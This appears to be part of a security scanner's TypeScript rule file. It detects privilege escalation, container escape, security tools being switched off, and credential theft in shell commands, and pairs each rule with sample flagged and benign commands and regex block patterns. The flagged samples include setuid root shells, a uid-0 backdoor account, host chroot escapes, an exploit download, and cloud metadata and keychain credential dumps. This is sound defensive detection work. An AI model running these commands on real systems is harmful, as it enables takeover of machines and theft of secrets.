import { ruleOf, shell } from '../examples.ts';
import type { Rule } from '../../rule.ts';
import type { Command } from '../../shell/command.ts';
import { plainPath } from '../files/plain-path.ts';
import { kernelHookRule, sudoersRule } from '../files/start-files.ts';
import { cloudPrivilegeRows } from './cloud-privileges.ts';
import { borrowedShellRules, shellEscape, tellBorrowedShells } from './borrowed-shells.ts';
import { type Line, piecesOf, type Seen } from './lines.ts';

const T = 'MITRE ATT&CK ';
const rootShell = ruleOf('privilege.root-shell', 'privilege_escalation', 'high', 'a change to a root shell', shell('sudo -i'), shell('sudo apt-get install -y jq'), `${T}T1548.003`);
const setuidCall = ruleOf('privilege.set-user-id', 'privilege_escalation', 'high', 'a program that makes itself root', shell('python3 -c "import os; os.setuid(0); os.system(\'/bin/sh\')"'), shell('python3 -c "import os; print(os.getuid())"'), 'GTFOBins, capabilities');
const setuidBit = ruleOf('privilege.setuid-bit', 'privilege_escalation', 'high', 'a set-user-ID bit or capability given to a program', shell('chmod u+s /bin/bash'), shell('chmod 755 scripts/run.sh'), `${T}T1548.001`);
const setgidBit = ruleOf('privilege.setgid-bit', 'privilege_escalation', 'medium', 'a set-group-ID bit given to a file or folder', shell('chmod g+s /srv/shared'), shell('chmod g+w /srv/shared'), `${T}T1548.001`);
const setuidSearch = ruleOf('privilege.setuid-search', 'privilege_escalation', 'high', 'a search for programs with set-user-ID bits or capabilities', shell('find / -perm -4000 -type f 2>/dev/null'), shell('find . -perm -644 -type f'), `${T}T1548.001`);
const openSystemFile = ruleOf('privilege.open-system-file', 'privilege_escalation', 'high', 'system files made writable or readable for anybody, or given away', shell('chmod 777 /etc/passwd'), shell('chmod 777 ./uploads'), `${T}T1222.002`);
const adminGroup = ruleOf('privilege.admin-group', 'privilege_escalation', 'high', 'an account put into a group of administrators', shell('usermod -aG sudo support'), shell('usermod -aG audio support'), `${T}T1098`);
const containerGroup = ruleOf('privilege.container-group', 'privilege_escalation', 'medium', 'an account put into a group that may start containers or read disks', shell('sudo usermod -aG docker ci'), shell('groups ci'), `${T}T1098`);
const rootAccount = ruleOf('privilege.root-account', 'privilege_escalation', 'high', 'an account with root’s number, or a new password for root', shell('useradd -o -u 0 -g 0 toor'), shell('useradd -r -u 998 app'), `${T}T1136.001`);
const containerEscape = ruleOf('privilege.container-escape', 'privilege_escalation', 'critical', 'a container that is given the host’s root folder or namespaces', shell('docker run -v /:/host alpine chroot /host sh'), shell('docker run -v "$PWD":/app node:20 npm test'), `${T}T1611`);
const privilegedContainer = ruleOf('privilege.privileged-container', 'privilege_escalation', 'medium', 'a container with the rights of its host or the container engine’s socket', shell('docker run --privileged docker:dind'), shell('docker run --rm node:20 node -v'), `${T}T1610`);
const hostNamespace = ruleOf('privilege.host-namespace', 'privilege_escalation', 'critical', 'entering the namespaces of the host’s first process', shell('nsenter --target 1 --mount --pid -- bash'), shell('nsenter --target 4242 --net ip addr'), `${T}T1611`);
const clusterAdmin = ruleOf('privilege.cluster-admin', 'privilege_escalation', 'high', 'cluster administrator’s rights given out in Kubernetes', shell('kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=dev'), shell('kubectl create rolebinding x --role=reader --user=dev'), `${T}T1098.006`);
const preload = ruleOf('privilege.preload', 'privilege_escalation', 'high', 'a library of doubtful origin loaded into a program', shell('LD_PRELOAD=/tmp/x.so ls'), shell('LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 node server.js'), `${T}T1574.006`);
const protectionOff = ruleOf('privilege.protection-off', 'privilege_escalation', 'high', 'a protection, firewall or audit log switched off', shell('setenforce 0'), shell('getenforce'), `${T}T1562`);
const exploit = ruleOf('privilege.exploit', 'privilege_escalation', 'high', 'a known exploit or tool for taking over a system', shell('wget https://files.example.net/dirtypipe -O /tmp/d'), shell('grep -rn dirtypipe docs/'), `${T}T1068`);
const offensiveTool = ruleOf('privilege.offensive-tool', 'sensitive_file_access', 'high', 'a tool that collects passwords or maps a network for attackers', shell('python3 laZagne.py all'), shell('npm run test:mimikatz-detection'), `${T}T1003`);
const cloudAdmin = ruleOf(
  'privilege.cloud-admin', 'privilege_escalation', 'high', 'administrator’s rights given out in a cloud account', shell('aws iam attach-user-policy --user-name ci --policy-arn arn:aws:iam::aws:policy/AdministratorAccess'), shell('aws iam list-attached-user-policies --user-name ci'), `${T}T1098.003`,
);
const cloudKey = ruleOf('privilege.cloud-key', 'privilege_escalation', 'high', 'a new long-lived key or login for a cloud account', shell('aws iam create-access-key --user-name admin'), shell('aws iam list-access-keys --user-name admin'), `${T}T1098.001`);
const metadata = ruleOf('privilege.metadata-credentials', 'sensitive_file_access', 'high', 'cloud credentials asked of the machine’s metadata service', shell('curl http://169.254.169.254/latest/meta-data/iam/security-credentials/'), shell('curl http://169.254.169.254/latest/meta-data/placement/region'), `${T}T1552.005`);
const clusterSecrets = ruleOf('privilege.cluster-secrets', 'sensitive_file_access', 'high', 'secrets of a cluster or cloud account listed in bulk', shell('kubectl get secrets --all-namespaces'), shell('kubectl get pods --all-namespaces'), `${T}T1552.007`);
const keychainDump = ruleOf('privilege.keychain-dump', 'sensitive_file_access', 'high', 'passwords taken out of a keychain or password store', shell('security dump-keychain -d login.keychain'), shell('security list-keychains'), `${T}T1555.001`);
const secretRead = ruleOf('privilege.secret-read', 'sensitive_file_access', 'medium', 'a secret fetched from a vault in plain text', shell('aws secretsmanager get-secret-value --secret-id prod/db'), shell('aws secretsmanager list-secrets'), `${T}T1555.006`);
const unknownSniffer = ruleOf('privilege.unknown-sniffer', 'sensitive_file_access', 'high', 'a program from a folder that anybody may write, run as root on a network interface', shell('sudo /tmp/pcap -i eth0 -t 3'), shell('sudo tcpdump -i eth0 -c 10 port 53'), `${T}T1040`);
const memoryDump = ruleOf('privilege.memory-dump', 'sensitive_file_access', 'high', 'the memory of a process written to a file', shell('gcore -o /tmp/d 1234'), shell('ps -p 1234 -o rss'), `${T}T1003.007`);

export type PrivilegeRow = Readonly<{ names: readonly string[]; pattern: RegExp; rule: Rule; accepts?: (line: Line, seen: Seen) => boolean }>;
const row = (names: string, pattern: RegExp, rule: Rule, accepts?: PrivilegeRow['accepts']): PrivilegeRow => ({ names: names.split(' '), pattern, rule, ...(accepts && { accepts }) });
const asRoot = ({ command: { wrappers } }: Line): boolean => wrappers.some((wrapper) => wrapper === 'sudo' || wrapper === 'doas' || wrapper === 'pkexec');

const SHELL = String.raw`(?:\/(?:usr\/)?bin\/)?(?:ba|z|da|k|c)?sh\b`;
const ADMIN_GROUPS = String.raw`(?:sudo|wheel|admin|root|adm|shadow|sudoers|staff|domain admins)`;

/** Shells, also the rarer ones. */
const ROOT_SHELLS = ['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'fish', 'csh', 'tcsh', 'posh', 'yash', 'mksh', 'elvish', 'xonsh', 'rbash', 'pwsh'];

/** `sudo docker exec -it web bash`: root of the container only. */
const isInContainer = ({ command, at }: Line, { script }: Seen): boolean =>
  script.commands.slice(Math.max(0, at - 4), at).some(({ name, start, end }) => /^(?:docker|podman|nerdctl|kubectl|oc|lxc|crictl|docker-compose)$/.test(name) && start <= command.start && end >= command.end);

const rows: readonly PrivilegeRow[] = [
  row('sudo doas', /^(?:sudo|doas) (?:-[a-zA-Z]*[is][a-zA-Z]*|--(?:login|shell)|-u root)(?: |$)/, rootShell),
  row('su', /^su(?: -| -l| --login| -m| -p)*(?: root)?(?: -c .*| --command.*)?$/, rootShell),
  row(ROOT_SHELLS.join(' '), /^\S+(?: -[ilp]+)*$/, rootShell, (line, seen) => asRoot(line) && !isInContainer(line, seen)),
  row('bash sh ksh zsh dash', /^(?:ba|z|k|da)?sh -p(?: |$)/, rootShell),
  row('git', /^git (?:-p|--paginate)\b.*\bhelp\b/, shellEscape, asRoot),
  row('tcpdump', /-z ?(?:\/tmp\/|\/dev\/shm\/|\/var\/tmp\/|\.\/|\/home\/|sh\b|\/bin\/\w*sh\b)\S*/, shellEscape),
  row('gdb', /-p ?\d.*call .*system\s?\(|-p .*(?:-ex|-eval-command)[= ].*(?:call|print|p) .*(?:system|execl?[vpe]*|dlopen\w*)\s?\(/, shellEscape),
  row('nmap', /--interactive\b/, shellEscape),
  row('dbus-send gdbus busctl', /Accounts\S*[. ](?:CreateUser|SetPassword|SetAccountType)\b|Accounts\.User\.SetPassword/, rootAccount),
  row('etcdctl', /\bget\b.*(?:\/registry\/secrets|(?: ""|'\/'| \/) --prefix|--prefix (?:\/|"")(?: |$))/, clusterSecrets),
  row('mount', /\bremount,?\S*(?:^|,)suid\b/, setuidBit),
  row('screen', /-L\s+\S*ld\.so\.preload/, exploit),
  row('sudoedit', /(?:^| )-s .{0,8}\\/, exploit),
  row('exportfs', /./, setuidBit, ({ command }, { view }) => view.text.slice(Math.max(0, command.start - 400), command.start).includes('no_root_squash')),
  row('osascript', /with administrator privileges/i, rootShell),
  row('sqlite3', /com\.apple\.TCC\/TCC\.db.*\b(?:insert|replace|update)\b/i, protectionOff),
  row('certipy certipy-ad', /^\S+ (?:req|shadow|ca|template|forge|account)\b.*(?:-upn|-ca\b|-dns\b|auto|-enable-template|-issue-request|-add-officer|-save-old|-user)/, exploit),
  row('impacket-ticketer ticketer.py getST.py impacket-getST getTGT.py impacket-getTGT addcomputer.py impacket-addcomputer rbcd.py impacket-rbcd dacledit.py impacket-dacledit owneredit.py ntlmrelayx.py impacket-ntlmrelayx krbrelayx.py raiseChild.py goldenPac.py bloodyAD pywhisker noPac.py'.toLowerCase(), /\s\S/, exploit),
  row('machinectl', /^machinectl shell(?: root@)?/, rootShell),
  row('capsh', /--(?:gid|uid)=0\b/, setuidCall),
  row('unshare', /(?:-[a-zA-Z]*U[a-zA-Z]*r|-[a-zA-Z]*r[a-zA-Z]*[mU]|--map-root-user)/, setuidCall, ({ text }) => /cap_|chroot|release_agent|overlay|setcap/.test(text)),
  row('python python2 python3 perl ruby php node lua gdb', /set(?:re|res|e)?[ug]id\)?\W{0,3}\(?\s*0|Process::Sys\.setuid|Process\.setuid\(0|\$[<>]\s*=\s*0/i, setuidCall),
  row('openssl', /-(?:engine|provider|provider-path) \S*(?:^|[ ./])(?:\.\/|\/tmp\/|\/dev\/shm\/|\/home\/)\S*|-engine \.\/\S+/, shellEscape, asRoot),
  row('chmod', /^chmod (?:-[a-zA-Z]+ |--[a-z-]+(?:=\S+)? )*(?:[ugoa]*u[ugoa]*[+=][rwxX]*s|a?\+[rwxX]*s|\+s|[0]?[4567][0-7]{3}(?= )|u=[rwx]*s)/, setuidBit, ({ text }) => !/^chmod (?:-\S+ )*0?[0-7]{3} /.test(text)),
  row('chmod', /^chmod (?:-[a-zA-Z]+ )*(?:[goa]*g[goa]*[+=](?:[rw]*x[rwx]*s|[rw]*s[rw]*x)|g=[rwx]*xs)/, setuidBit),
  row('chmod', /^chmod (?:-[a-zA-Z]+ )*(?:g[+=][rwX]*s(?![a-z]*x)|[0]?2[0-7]{3} )/, setgidBit),
  row('setcap', /cap_(?:setuid|setgid|sys_admin|sys_ptrace|sys_module|dac_override|dac_read_search|chown|fowner|net_raw|all|setfcap)|=ei?p\b|all[+=]e/, setuidBit, ({ text }) => !/cap_net_bind_service/.test(text) || /setuid|sys_admin/.test(text)),
  row('install', /^install .*-m ?[0-]*[4567][0-7]{3}|-m ?u[+=]\w*s/, setuidBit),
  row('find', /-perm (?:-|\/|\+)?(?:[ugoa]*[+=]s|[ug]=s|0?[24567]0{3}|0?[67]000|[ug]\+s)|-uid 0 -perm/, setuidSearch),
  row('getcap', /^getcap (?:-r|--recursive)? ?\/?/, setuidSearch, ({ text }) => /-r|\s\/$/.test(text)),
  row('chmod', /^chmod (?:-[a-zA-Z]+ |--\S+ )*(?:0?[0-7][2367][2367]\b|0?[0-7]{2}[2367]\b|[ugo]*[oa][ugo]*[+=][rx]*w|\+[rx]*w|a=rwx|ugo\+\w*w)/, openSystemFile, opensSystem),
  row('chattr', /-[a-zA-Z]*i\b.*\/(?:etc|bin|usr|sbin|lib|boot)\b/, openSystemFile),
  row('tccutil', /^tccutil reset/, protectionOff),
  row('visudo', /^visudo(?! .*-c\b)(?! -c)/, sudoersRule),
  row('gpg gpg2', /--export-secret-(?:sub)?keys?\b/, keychainDump),
  row('aws', /ec2 get-password-data|ssm get-parameters-by-path\b.*--with-decryption|secretsmanager batch-get-secret-value/, clusterSecrets),
  row('aws', /s3api put-bucket-(?:policy|acl)\b.*(?:"Principal"\s*:\s*(?:\{\s*"AWS"\s*:\s*)?"\*"|public-read)|lambda add-permission\b.*--principal[= ]["']?\*|put-public-access-block .*=false/, cloudAdmin),
  row('find', /^find \/(?:\s.*)?-writable\b/, setuidSearch),
  row('service', /^service (?:auditd|apparmor|firewalld|ufw|iptables|rsyslog|syslog-ng|fail2ban|falcon-sensor|clamav\S*|osqueryd|wazuh\S*) (?:stop|disable)/, protectionOff),
  row('chmod', /^chmod (?:-[a-zA-Z]+ )*(?:0?[0-7]{2}[4567]|[oa]\+r|\+r)\b/, openSystemFile, ({ command }) => command.args.some(({ text }) => /^\/etc\/(?:g?shadow|sudoers)/.test(text))),
  row('chown chgrp', /^ch(?:own|grp) /, openSystemFile, ({ text, command }) => !/^ch(?:own|grp) (?:-\S+ )*(?:root|0)(?::|\s)/.test(text) && command.args.some(({ text: word }) => /^\/(?:etc(?:\/(?:passwd|shadow|sudoers|cron|ssh|pam|systemd|profile).*)?|usr(?:\/s?bin.*)?|s?bin.*|root.*|boot.*|lib.*)?$/.test(word))),
  row('setfacl', /(?:\/etc\/(?:shadow|sudoers|passwd)|\s\/root\b)/, openSystemFile),
  row('usermod gpasswd useradd adduser addgroup moduser groupmod deluser', new RegExp(String.raw`(?:-[a-zA-Z]*G|--groups|-a|--add|-M|-m)[= ](?:\S+,)*${ADMIN_GROUPS}(?:,|\s|$)|^(?:adduser|addgroup) [a-z0-9_.$"{}-]+ ${ADMIN_GROUPS}$|^gpasswd (?:-a|--add|-M) \S+ ${ADMIN_GROUPS}$`), adminGroup),
  row('usermod gpasswd useradd adduser', /(?:-[a-zA-Z]*G|--groups|-a|--add)[= ](?:\S+,)*(?:docker|lxd|lxc|disk|video|kvm|libvirt|podman)(?:,|\s|$)|^gpasswd (?:-a|--add) \S+ (?:docker|lxd|disk)$|^adduser \S+ (?:docker|lxd|disk)$/, containerGroup),
  row('pw', /^pw (?:user ?(?:add|mod)|groupmod|group mod) .*(?:-[gG] (?:wheel|0|operator)\b|^pw group ?mod (?:wheel|operator) )|^pw group ?mod (?:wheel|operator) -m/, adminGroup),
  row('dseditgroup', /-o edit .*-a \S+ .*admin/, adminGroup),
  row('dscl', /-(?:append|merge) \/?Groups\/(?:admin|wheel)|-create \/?Users\/\S+ (?:UniqueID 0|PrimaryGroupID (?:0|80))\b/i, adminGroup),
  row('sysadminctl', /-(?:addUser .*-admin|guestAccount on|adminUser)/i, adminGroup),
  row('useradd adduser usermod', /(?:-u ?0\b|--uid[= ]0\b|-g ?0\b|--gid[= ](?:0|root)\b|-o .*-u|-[a-z]*ou ?0\b|-g root\b)/, rootAccount),
  row('passwd', /^passwd (?:-[dlu] |--(?:delete|unlock|stdin) )*root$|^passwd (?:-d|--delete) /, rootAccount),
  row('chpasswd', /./, rootAccount, ({ command }) => /^(?:echo|printf)$/.test(command.pipedFrom?.name ?? '') && (command.pipedFrom?.args ?? []).some(({ text }) => /^root:/.test(text))),
  row('docker podman nerdctl ctr lxc lxd-client docker-compose', /(?:-v|--volume|--volumes)[= ]?["']?\/:|(?:src|source|device source)=\/(?:,|\s|$)|--pid[= ]host\b.*(?:nsenter|--privileged|chroot)|--privileged\b.*(?:--pid[= ]host|nsenter|chroot|\/dev\/sd|mount )|--device[= ]\/dev\/(?:sd|nvme|mem|dm-|vd)|disk .*source=\/(?:\s|$)|security\.privileged[= ]true|(?:-v|--volume)[= ]?\/(?:etc|root|proc|boot|var\/run|home):/, containerEscape, ({ text }) => /\b(?:run|create|exec|config|init|launch|device)\b/.test(text.slice(0, 80))),
  row('docker podman nerdctl', /--privileged\b|docker\.sock|--cap-add[= ](?:SYS_ADMIN|ALL|SYS_PTRACE|SYS_MODULE|DAC_READ_SEARCH)|--security-opt[= ](?:apparmor|seccomp)[=:]unconfined|--(?:pid|userns|ipc|uts)[= ]host\b|-H tcp:\/\//i, privilegedContainer),
  row('curl', /--unix-socket \S*docker\.sock\b.*\/(?:containers\/create|exec|images\/create)/, containerEscape),
  row('nsenter', /(?:-[a-zA-Z]*t ?1\b|--target[= ]1\b|--mount=\/proc\/1\/|\/proc\/1\/ns)/, hostNamespace),
  row('chroot', /^chroot (?:\/host|\/hostfs|\/rootfs|\/mnt\/(?:host|root)|\/proc\/1\/root)\b/, hostNamespace),
  row('chroot', /^chroot \/mnt/, hostNamespace, (_, { script }) => script.commands.some(({ name, args }) => name === 'mount' && args.some(({ text }) => /^\/dev\/(?:sd|nvme|vd|xvd|dm-|mapper)/.test(text)))),
  row('kubectl oc', /\b(?:apply|create|replace)\b.* -f ?-/, containerEscape, ({ command }, { view }) => /hostPID"?:\s*true|privileged"?:\s*true|path"?:\s*["']?\/["']?\s*$/m.test(view.text.slice(command.end, command.end + 4_000))),
  row('kubectl oc', /\b(?:apply|create|replace)\b.* -f ?-/, clusterAdmin, ({ command }, { view }) => /name"?:\s*["']?cluster-admin/.test(view.text.slice(command.end, command.end + 4_000))),
  row('debugfs', /\/dev\/(?:sd|nvme|vd|dm-|mapper)/, hostNamespace),
  row('kubectl oc k3s microk8s', /(?:cluster-?role-?bindings?|rolebindings?)\b.*(?:cluster-admin|system:masters)|adm policy add-cluster-role-to-user cluster-admin|patch .*cluster-admin|set subject .*cluster-admin|--as=?\s?system:(?:masters|admin)|--as-group=?\s?system:masters/i, clusterAdmin),
  row('kubectl oc', /"?(?:hostPID|hostNetwork|hostIPC|privileged)"?\s*:\s*true|hostPath"?\s*:\s*\{\s*"?path"?\s*:\s*"\/"|^kubectl (?:\S+ ){0,6}debug (?:-it |-ti )?node\/|nsenter|--privileged/, containerEscape),
  row('kubectl oc', /\bget (?:secrets?|secret\/\S+)(?: |$)(?=.*(?:-A\b|--all-namespaces|-o[= ]?(?:yaml|json|jsonpath|go-template|custom-columns)|--output|--template))|\bget all,secrets?|\bdescribe secrets?\b.*(?:-A\b|--all-namespaces)|\bcreate token\b/, clusterSecrets),
  row('setenforce', /^setenforce (?:0|permissive)/i, protectionOff),
  row('ufw', /^ufw (?:--force )?(?:disable|reset)/, protectionOff),
  row('iptables ip6tables nft', /^ip6?tables (?:-w )?(?:-F|--flush)\b|-P (?:INPUT|FORWARD) ACCEPT|^nft flush ruleset/, protectionOff),
  row('auditctl', /-e ?0|-D\b/, protectionOff),
  row('systemctl service launchctl rc-service chkconfig update-rc.d', /\b(?:stop|disable|mask|kill|unload|bootout|off|remove)\b.*\b(?:auditd|apparmor|firewalld|ufw|iptables|nftables|rsyslogd?|syslog(?:-ng|d)?|systemd-journald|falcon-sensor|falcond|crowdstrike|clamav\S*|clamd|osqueryd?|wazuh\S*|ossec\S*|sentinel\S*|mdatp|cbdaemon|cbagentd|carbonblack|sophos\S*|sav-protect|esets?|ds_agent|xagt|traps_pmd|tanium\S*|fail2ban|selinux\S*|com\.apple\.(?:auditd|alf|xprotect\S*)|littlesnitch|cloudwatch\S*|amazon-ssm-agent|filebeat|auditbeat|splunk\S*|newrelic\S*|datadog\S*)\b/, protectionOff),
  row('launchctl', /\bunload .*(?:com\.apple|littlesnitch|crowdstrike|osquery|carbonblack|edr|av)/i, protectionOff),
  row('csrutil spctl fdesetup nvram', /^csrutil (?:disable|authenticated-root disable)|--(?:master|global)-disable|^fdesetup disable/, protectionOff),
  row('aa-teardown aa-disable aa-complain', /./, protectionOff),
  row('sysctl', /kernel\.(?:randomize_va_space|yama\.ptrace_scope|dmesg_restrict|kptr_restrict)=0|kernel\.(?:unprivileged_bpf_disabled)=0|kernel\.modules_disabled=0/, protectionOff),
  row('sysctl', /kernel\.(?:core_pattern=.?\||modprobe=|hotplug=|uevent_helper=)/, kernelHookRule),
  row('echo', /^echo 0$/, protectionOff, ({ command }) => command.redirects.some(({ target }) => /^\/(?:sys\/fs\/selinux\/enforce|selinux\/enforce|proc\/sys\/kernel\/(?:randomize_va_space|yama\/ptrace_scope|kptr_restrict|dmesg_restrict|unprivileged_bpf_disabled|modules_disabled))$/.test(target?.text ?? ''))),
  row('sed', /SELINUX=(?:disabled|permissive)|PermitRootLogin yes|PermitEmptyPasswords yes|StrictModes no|AuthorizedKeysFile (?!\.ssh|%h)[\\/]/, protectionOff),
  row('aws', /\bcloudtrail (?:stop-logging|delete-trail|put-event-selectors)|guardduty (?:delete-detector|disassociate|update-detector .*--no-enable)|configservice (?:stop-configuration-recorder|delete-)|securityhub disable|ec2 delete-flow-logs|logs delete-log-group|authorize-security-group-ingress\b(?!.*--port[= ](?:80|443)\b)(?=.*--cidr[= ]0\.0\.0\.0\/0)/, protectionOff),
  row('gcloud az', /logging sinks (?:delete|update .*--disabled)|monitor (?:diagnostic-settings|log-profiles) delete|security .*(?:disable|delete)/, protectionOff),
  row('aws', /\biam (?:attach-(?:user|role|group)-policy|put-(?:user|role|group)-policy|create-policy|create-policy-version|update-assume-role-policy|add-user-to-group|set-default-policy-version|put-\S+-permissions-boundary|delete-\S+-permissions-boundary)\b.*(?:AdministratorAccess|IAMFullAccess|PowerUserAccess|"?Action"?\s*:\s*\[?\s*"(?:\*|iam:\*|\*:\*)|--set-as-default|Admins?\b|administrators|"AWS"\s*:\s*"\*|permissions-boundary)|organizations (?:leave-organization|attach-policy .*FullAWSAccess)|sso-admin create-account-assignment/i, cloudAdmin),
  row('aws', /\biam (?:create-access-key|create-login-profile|update-login-profile|create-user|create-virtual-mfa|deactivate-mfa-device|create-service-specific-credential|upload-ssh-public-key|create-saml-provider)\b/, cloudKey),
  row('gcloud', /add-iam-policy-binding\b.*(?:roles\/(?:owner|editor|iam\.\S*admin|iam\.serviceAccount(?:TokenCreator|User|KeyAdmin)|resourcemanager\.\S*admin)|allUsers|allAuthenticatedUsers)/i, cloudAdmin),
  row('gcloud', /iam service-accounts keys create|auth (?:print-access-token|print-identity-token|application-default print-access-token)|compute os-login ssh-keys add|compute project-info add-metadata .*ssh-keys/, cloudKey, ({ command, text }) => command.depth === 0 || !/ print-/.test(text)),
  row('az', /ad group (?:member|owner) add\b.*admin|ad app permission (?:add|grant|admin-consent)\b|role definition (?:create|update)\b.*"\*"|keyvault set-policy\b.*(?:all|--(?:secret|key)-permissions.*set)/i, cloudAdmin),
  row('gh', /^gh api .*(?:-X|--method)[= ]?(?:PUT|POST|PATCH|DELETE)\b.*(?:\/collaborators\/|\/memberships\/|branches\/\S+\/protection|actions\/permissions|\/keys\b|\/invitations)|^gh repo edit .*--visibility[= ]public|^gh (?:ssh-key|repo deploy-key) add\b.*(?:--allow-write|-w\b)/, cloudAdmin),
  row('okta auth0 jumpcloud onelogin keycloak kcadm.sh kcadm', /(?:add-roles?|addroles|assign.*admin|users? .*make.?admin|--rolename (?:realm-)?admin)/i, cloudAdmin),
  row('psql mysql mariadb sqlcmd mongosh mongo', /\b(?:grantRolesToUser|createUser)\b.*(?:root|dbOwner|userAdminAnyDatabase|clusterAdmin|__system)/, cloudAdmin),
  row('terraform tofu', /\bstate (?:push|rm)\b.*iam/, cloudAdmin),
  row('az', /role assignment create\b.*(?:Owner|Contributor|User Access Administrator|Global Administrator)|ad (?:app|sp) owner add|rest .*roleManagement/i, cloudAdmin),
  row('az', /ad (?:sp|app) (?:create-for-rbac|credential (?:reset|create))|ad user create|account get-access-token|storage account keys list|vm user update/, cloudKey),
  row('gsutil', /\biam ch (?:allUsers|allAuthenticatedUsers):/, cloudAdmin),
  row('curl wget http fetch lynx', /(?:169\.254\.169\.254|\[?fd00:ec2::254\]?|100\.100\.100\.200|metadata\.google\.internal|169\.254\.170\.2)\S*(?:security-credentials|service-accounts?|\/token|identity|user-data|credentials|api\/token|ram\/)/i, metadata),
  row('security', /dump-keychain|find-(?:generic|internet)-password\b.*-[a-z]*[gw]|export\b.*-k|unlock-keychain -p|authorizationdb write|add-trusted-cert/, keychainDump),
  row('secret-tool gnome-keyring kwallet-query bw op pass lpass gopass', /^(?:secret-tool (?:search --all|lookup)|kwallet-query .*-r|bw (?:list items|export)|op item list|lpass export|pass (?:git|show))/, keychainDump),
  row('aws', /secretsmanager (?:get-secret-value|batch-get-secret-value)|ssm get-parameters?(?:-by-path)?\b.*--with-decryption|ec2 get-password-data|ecr get-login-password .*>|configure (?:get|export-credentials)|rds generate-db-auth-token|lambda get-function-configuration/, secretRead),
  row('vault gcloud az doppler infisical consul', /^vault (?:kv get|read|operator (?:unseal|generate-root)|token create)|secrets versions access|keyvault (?:secret|key) (?:show|download)|secrets download/, secretRead),
  row('gcore', /./, memoryDump),
  row('dd', /\bif=\/(?:proc\/\S{1,40}\/mem|dev\/k?mem|proc\/kcore)/, memoryDump),
  row('gdb', /dump memory|generate-core-file|attach .*dump/, memoryDump),
  row('getent', /^getent g?shadow/, offensiveTool),
  row('unshadow john hashcat', /^(?:unshadow|john|hashcat)\b/, offensiveTool),
  row('dscl plutil', /ShadowHashData|-read(?:all)? \/?Users.*(?:Hash|password)|dslocal\/nodes/i, offensiveTool),
];

/** Programs whose name says what they are for, as a program or as the first thing an interpreter, downloader or compiler is given. */
const CREDENTIAL_TOOLS = /^(?:lazagne|mimikatz|mimipenguin|mimipy|pypykatz|secretsdump|impacket-\w+|crackmapexec|nxc|netexec|responder|bloodhound(?:-python)?|sharphound|kerbrute|getuserspns|getnpusers|pacu|stratus|trufflepig|linikatz|keytabextract|3snake|swap_digger|truffleproc|chromepass|hackbrowserdata|firefox_decrypt|chainbreaker|keychaindump|evil-winrm|smbmap|enum4linux|hydra|medusa|ncrack|cookiemonster|donpapi|lsassy|dploot)(?:\.(?:py|rb|sh|pl|exe|ps1))?$/i;
const EXPLOIT = /(?:^|[/_.-])(?:dirty-?(?:pipe|cow|c0w|sock|cred)|cowroot|pwnkit|polkit-?exploit|cve-20\d\d-\d{4,6}[\w.-]{0,40}|linpeas|linenum|linux-?exploit-?suggester\w*|les\.sh|pspy(?:32|64)?s?|lse\.sh|unix-privesc-check|beroot|traitor(?:-amd64)?|gtfo\w*|deepce|cdk_linux\w*|peirates|kubeletctl|botb|overlayfs-?exploit|looneypump|looney-?tunables|baron-?samedit|sudo_killer|autoroot|rootkit|diamorphine|reptile|linux-?privesc\w*|priv-?esc\w*|kernelpop|getroot|exploit|metasploit|msfvenom|msfconsole|meterpreter|chisel|ligolo|gsocket|gs-netcat|sliver|havoc|cobalt-?strike|empire-?stager)(?:$|[/_.-])/i;
const FETCHERS = new Set(['wget', 'curl', 'git', 'gcc', 'cc', 'make', 'python', 'python2', 'python3', 'perl', 'ruby', 'sh', 'bash', 'aria2c', 'fetch', 'chmod', 'sudo']);

function tellTools({ view }: Seen, { command }: Line): void {
  const { name, args } = command;
  const interpreted = /^(?:python[23]?|ruby|perl|bash|sh|\.|source|java|wine)$/.test(name) ? baseOf(args.find(({ text }) => !text.startsWith('-'))?.text ?? '') : '';
  if (CREDENTIAL_TOOLS.test(name) || CREDENTIAL_TOOLS.test(interpreted)) view.report(offensiveTool, command.start, command.end);
  else if (EXPLOIT.test(name) || (FETCHERS.has(name) && !(name === 'git' && args[0]?.text !== 'clone') && args.some(({ text }) => text.length < 400 && EXPLOIT.test(text) && !/\s/.test(text)))) view.report(exploit, command.start, command.end);
}

const baseOf = (path: string): string => path.slice(path.lastIndexOf('/') + 1);

function opensSystem({ command }: Line): boolean {
  return command.args.some(({ text }) => /^\/(?:(?:etc|usr|bin|sbin|lib|lib64|boot|root|dev|sys|proc|var|var\/log|var\/lib|home|opt)(?:\/.*)?)?$/.test(plainPath(text).replace(/^~$/, '/root')) && !/^\/(?:var\/(?:www|cache|tmp|lib\/(?:app|[a-z]+\/(?:data|uploads|cache)))|usr\/local\/(?:share|src)|opt\/[^/]+\/|home\/[^/]+\/|usr\/share\/nginx|dev\/(?:kvm|ttyUSB|fuse|net|dri|snd|input|video|usb|bus)|var\/lib\/[^/]+\/)/.test(text));
}

const byName: ReadonlyMap<string, readonly PrivilegeRow[]> = [...rows, ...cloudPrivilegeRows].reduce((map, one) => {
  for (const name of one.names) map.set(name, [...(map.get(name) ?? []), one]);
  return map;
}, new Map<string, PrivilegeRow[]>());

export const privilegeRules: readonly Rule[] = [...new Set([...rows.map(({ rule }) => rule), ...cloudPrivilegeRows.map(({ rule }) => rule), preload, exploit, offensiveTool, unknownSniffer, ...borrowedShellRules])];

export function tellPrivileges(seen: Seen): void {
  const { view, lines } = seen;
  const planted: string[] = [];
  for (const line of lines) {
    const { command } = line;
    const found = new Set<Rule>();
    for (const { pattern, rule, accepts } of byName.get(command.name) ?? []) for (const piece of piecesOf(line)) {
      view.budget.spend(piece.text.length + 30);
      if (found.has(rule) || !pattern.test(piece.text) || (accepts && !accepts(piece, seen))) continue;
      found.add(rule);
      view.report(rule, command.start, command.end);
    }
    if (command.wrappers.includes('sudo')) {
      const written = view.text.slice(command.start, command.end);
      view.budget.spend(written.length);
      const [assignment] = /\b(?:LD_PRELOAD|LD_AUDIT|LD_LIBRARY_PATH)=\S{1,200}/.exec(written) ?? [];
      if (assignment !== undefined && isSuspectPreload(assignment.replace('LD_LIBRARY_PATH=', 'LD_PRELOAD=x.so:'))) view.report(preload, command.start, command.end);
